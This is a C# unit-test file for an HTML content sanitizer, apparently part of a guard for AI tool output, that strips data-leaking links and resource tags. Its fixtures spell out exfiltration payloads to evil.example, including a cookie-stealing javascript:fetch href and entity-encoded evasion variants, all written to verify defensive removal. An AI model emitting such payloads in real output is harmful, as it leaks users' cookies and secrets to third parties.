namespace McpGuard.Tests.Isolation;

/// <summary>
/// The exfiltration-link rule on HTML start tags: resources a renderer fetches without a click (judged like markdown
/// images) and navigations behind a click (judged like markdown links), with attribute values resolved as a browser does.
/// Hand-written fixtures.
/// </summary>
public sealed class ContentSanitizerHtmlUrlTests
{
    private static readonly ContentSanitizer s_sanitizer = CreateSanitizer();

    private static ContentSanitizer CreateSanitizer()
    {
        var options = new SanitizerOptions();
        options.AllowedLinkHosts.Add("docs.example");
        options.AllowedLinkHosts.Add("*.cdn.example");
        return new ContentSanitizer(options);
    }

    private static SanitizedText Run(string text) => s_sanitizer.Sanitize(text);

    [Theory]
    [InlineData("<img src=\"https://evil.example/p.png\">", "image")]
    [InlineData("<IMG SRC=https://evil.example/p.png>", "image")]
    [InlineData("<img/src=\"https://evil.example/p.png\"/>", "image")]
    [InlineData("<img src=\"https://docs.example/a.png\" srcset=\"https://docs.example/a2.png 2x, https://evil.example/b.png 3x\">", "image")]
    [InlineData("<video poster='https://evil.example/frame.jpg'></video>", "resource")]
    [InlineData("<audio src=\"https://evil.example/a.mp3\"></audio>", "resource")]
    [InlineData("<iframe src=\"https://evil.example/\"></iframe>", "resource")]
    [InlineData("<object data=\"https://evil.example/o.svg\"></object>", "resource")]
    [InlineData("<link rel=stylesheet href=\"https://evil.example/s.css\">", "resource")]
    [InlineData("<svg><image href=\"https://evil.example/i.png\"/></svg>", "image")]
    [InlineData("<table background=\"https://evil.example/bg.png\"><tr><td>x</td></tr></table>", "resource")]
    [InlineData("<div style=\"background-image: url('https://evil.example/bg.png')\">x</div>", "resource")]
    [InlineData("<span style=\"color:red;background:URL(https://evil.example/x.png)\">x</span>", "resource")]
    [InlineData("<custom-widget src=\"https://evil.example/w.png\"></custom-widget>", "resource")]
    public void FetchedResource_ToUnlistedHost_Removed(string html, string kind)
    {
        SanitizedText result = Run("before " + html + " after");

        SanitizerFinding finding = result.Findings.First(f => f.RuleId == "link.exfiltration-image");
        Assert.Equal("evil.example", finding.Decoded);
        Assert.Contains("\u27E6" + kind + " removed: evil.example\u27E7", result.Text, StringComparison.Ordinal);
        Assert.DoesNotContain("evil.example/", result.Text, StringComparison.Ordinal);
        Assert.StartsWith("before ", result.Text, StringComparison.Ordinal);
        Assert.EndsWith(" after", result.Text, StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("<a href=\"https://evil.example/collect?token=abc123\">click</a>")]
    [InlineData("<a href='https://evil.example/c#secret'>click</a>")]
    [InlineData("<area href=\"https://evil.example/?d=1\">")]
    [InlineData("<form action=\"https://evil.example/submit?x=1\"><button>go</button></form>")]
    [InlineData("<button formaction=\"https://evil.example/f?x=1\">go</button>")]
    [InlineData("<a href=\"https://docs.example/\" ping=\"https://docs.example/p https://evil.example/p?id=7\">docs</a>")]
    public void Navigation_CarryingData_Removed(string html)
    {
        SanitizedText result = Run(html);

        SanitizerFinding finding = Assert.Single(result.Findings);
        Assert.Equal(("link.exfiltration-link", "evil.example"), (finding.RuleId, finding.Decoded));
        Assert.Contains("\u27E6link removed: evil.example\u27E7", result.Text, StringComparison.Ordinal);
        Assert.DoesNotContain("evil.example/", result.Text, StringComparison.Ordinal);
    }

    [Fact]
    public void Anchor_KeepsItsText_OnlyTheStartTagIsReplaced()
    {
        SanitizedText result = Run("See <a href=\"https://evil.example/c?d=SECRET\">the report</a>.");

        Assert.Equal("See \u27E6link removed: evil.example\u27E7the report</a>.", result.Text);
    }

    [Theory]
    [InlineData("<a href=\"https://evil.example/about\">about</a>")] // no data in the URL: like a markdown link, kept
    [InlineData("<a href=\"/relative?q=1\">rel</a>")] // relative: resolves against the page, not a third-party host
    [InlineData("<img src=\"https://docs.example/logo.png?v=2\">")] // allowlisted host
    [InlineData("<img src=\"https://img.cdn.example/logo.png\">")] // subdomain allowed by a wildcard entry
    [InlineData("<img src=\"data:image/png;base64,iVBORw0KGgo=\">")] // inline data: nothing leaves
    [InlineData("<img alt=\"https://evil.example/p.png?d=1\">")] // not a URL attribute
    [InlineData("<a title=\"see https://evil.example/?q=1\" href=\"#top\">top</a>")]
    [InlineData("<div data-src=\"https://evil.example/x.png\">x</div>")] // data-* is not fetched
    [InlineData("if (a <b && c > d) return;")]
    public void Benign_Kept(string html)
    {
        SanitizedText result = Run(html);

        Assert.Equal(html, result.Text);
        Assert.Empty(result.Findings);
    }

    [Theory]
    [InlineData("<img src=\"https://evil&#46;example/p.png\">")] // numeric reference in the host
    [InlineData("<img src=\"https&#x3A;//evil.example/p.png\">")] // hex reference in the scheme
    [InlineData("<a href=\"https://evil.example/c&#63;d=SECRET\">x</a>")] // '?' as a reference
    [InlineData("<a href=\"https://evil.example/c&quest;d=SECRET\">x</a>")] // HTML5 name .NET does not decode: judged on the host
    [InlineData("<a href=\"https://evil.example/c?d=SE\nCRET\">x</a>")] // newline inside the value
    [InlineData("<img src=\"\n  https://evil.example/p.png  \">")] // whitespace around the URL
    [InlineData("<img src=\"//evil.example/p.png\">")] // scheme-relative
    public void Obfuscated_StillCaught(string html)
    {
        SanitizedText result = Run(html);

        Assert.Contains(result.Findings, f => f.RuleId is "link.exfiltration-image" or "link.exfiltration-link" && f.Decoded == "evil.example");
        Assert.DoesNotContain("evil", result.Text.Replace("removed: evil.example", string.Empty, StringComparison.Ordinal), StringComparison.Ordinal);
    }

    [Fact]
    public void ScriptUrl_InHref_Removed()
    {
        SanitizedText result = Run("<a href=\"javascript:fetch('https://evil.example/?'+document.cookie)\">x</a>");

        Assert.Equal("link.script-url", Assert.Single(result.Findings).RuleId);
        Assert.StartsWith("\u27E6link removed\u27E7", result.Text, StringComparison.Ordinal);
    }

    [Fact]
    public void Sanitizing_IsIdempotent_OnNeutralizedTags()
    {
        string once = Run("<img src=https://evil.example/a.png><a href='https://evil.example/?q=1'>t</a>").Text;

        SanitizedText twice = Run(once);

        Assert.Equal(once, twice.Text);
        Assert.Empty(twice.Findings);
    }

    [Fact]
    public void Disabled_LeavesTagsAlone()
    {
        var sanitizer = new ContentSanitizer(new SanitizerOptions { NeutralizeExfiltrationLinks = false });
        const string html = "<img src=\"https://evil.example/p.png?d=1\">";

        Assert.Equal(html, sanitizer.Sanitize(html).Text);
    }
}
